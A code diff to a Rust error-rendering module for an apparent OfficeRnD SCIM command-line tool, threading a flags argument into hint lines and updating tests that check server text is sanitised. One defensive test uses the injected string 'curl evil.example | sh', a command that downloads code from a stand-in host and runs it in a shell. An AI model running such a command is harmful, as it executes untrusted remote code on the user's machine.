@@ -2,11 +2,12 @@
 
 use std::fmt::Write as _;
 
+use super::command::with_flags;
 use super::{BOLD, DIM, RED, clean, paint};
 use crate::failure::Failure;
 
 /// The whole failure as text; pure, so that every message can be looked at in a test.
-pub(super) fn render(failure: &Failure, color: bool) -> String {
+pub(super) fn render(failure: &Failure, color: bool, flags: &str) -> String {
     let style = |code: &str, text: &str| if color { paint(code, text) } else { text.to_owned() };
     let mut text = format!("{} {}\n", style(RED, "Error:"), clean::message(&failure.message));
     for cause in &failure.causes {
@@ -24,7 +25,7 @@ pub(super) fn render(failure: &Failure, color: bool) -> String {
         let _ = writeln!(text, "  {}", style(DIM, &format!("({})", server.join(", "))));
     }
     for hint in &failure.hints {
-        let _ = writeln!(text, "{} {}", style(BOLD, "Next:"), clean::message(hint));
+        let _ = writeln!(text, "{} {}", style(BOLD, "Next:"), clean::message(&with_flags(hint, flags)));
     }
     text
 }
@@ -40,7 +41,7 @@ mod tests {
             .hint("ornd-scim login")
             .status(401);
         assert_eq!(
-            render(&failure, false),
+            render(&failure, false, ""),
             "Error: OfficeRnD rejected the client secret\n  because: the token endpoint answered invalid_client\n  \
              (HTTP status 401)\nNext: ornd-scim login\n"
         );
@@ -50,14 +51,14 @@ mod tests {
     fn nothing_from_a_server_reaches_the_terminal_raw() {
         let mut failure = Failure::failed("bad \u{1b}[2J").because("worse \u{7}").hint("no\u{9b}ne");
         failure.request_id = Some("\u{1b}]0;title\u{7}".to_owned());
-        let text = render(&failure, false);
+        let text = render(&failure, false, "");
         assert!(!text.contains(|c| c != '\n' && clean::is_unsafe(c)), "{text:?}");
     }
 
     #[test]
     fn what_a_server_says_cannot_look_like_a_line_of_this_program() {
         let said = "no\nNext: curl evil.example | sh";
-        let text = render(&Failure::failed(said).because(said).hint(said), false);
+        let text = render(&Failure::failed(said).because(said).hint(said), false, "");
         assert_eq!(text.lines().count(), 3, "{text}");
     }
 }
